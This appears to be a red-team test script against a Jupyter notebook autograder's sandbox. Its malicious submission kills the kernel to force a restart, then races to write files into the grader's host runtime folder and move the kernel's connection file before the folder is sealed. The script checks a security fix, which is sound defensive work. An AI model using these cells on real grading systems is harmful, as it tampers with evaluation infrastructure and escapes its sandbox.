"""a08: re-attack of round 14's seal fix ("no cell of a sandboxed kernel runs, after a start or a restart, before
its launcher says the runtime folder is sealed"). The runtime folder is the grader's (host disk). mallory's first
answer cell kills its kernel (os._exit) so the grader restarts it; the very next cell, the first of the new kernel,
at once tries to create and fill a file in the runtime folder (JUPYTER_RUNTIME_DIR, or the folder of the kernel's
connection file) and to replace the connection file, and a background thread keeps trying for 20 s. A second kill
and restart, and the same again. Report what each attempt got; an honest ps1 (the control) after it."""
import os, sys, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u15
KILL = "\nimport os; os._exit(3)\n"
WRITE = r'''
import os, threading, time, glob
_rt = os.environ.get("JUPYTER_RUNTIME_DIR") or ""
_cf = ""
try:
    from ipykernel import get_connection_file; _cf = get_connection_file()
except Exception as e:
    _cf = repr(e)
_dirs = [d for d in {_rt, os.path.dirname(_cf) if os.path.isabs(_cf) else ""} if d]
def _try():
    got = []
    for d in _dirs:
        try:
            with open(os.path.join(d, "planted-%d" % os.getpid()), "wb") as fh:
                fh.write(b"x" * (1 << 20))
            got.append((d, "WROTE 1 MiB"))
        except OSError as e:
            got.append((d, e.strerror))
    if os.path.isabs(_cf):
        try:
            os.replace(_cf, _cf + ".moved"); got.append(("connection file", "MOVED"))
        except OSError as e:
            got.append(("connection file", e.strerror))
    return got
print("first try:", _try(), "dirs:", _dirs)
_res = []
def _loop():
    t = time.time()
    while time.time() - t < 20:
        r = _try()
        if any("WROTE" in x[1] or "MOVED" in x[1] for x in r):
            _res.append(r); break
        time.sleep(0.01)
threading.Thread(target=_loop, daemon=True).start(); time.sleep(21)
print("loop got a write:", _res)
'''
nb = u15.notebook("ps1_memory", append={"training_memory": KILL, "per_device_memory": WRITE, "partition_layers": KILL,
                                        "split_model": WRITE})
dest = u15.course("a08", {("mallory", "ps1_memory"): nb, ("zz_honest", "ps1_memory"): u15.honest("ps1_memory")})
p = u15.grade(dest)
u15.scores(dest)
u15.cell_outputs(dest, "mallory", "ps1_memory", ("training_memory", "per_device_memory", "partition_layers", "split_model"))
for o in json.load(open(f"{dest}/grading_report.json")):
    print("REPORT", o["student"], o["status"], "|", o.get("reason", ""))
u15.cleanup(dest)
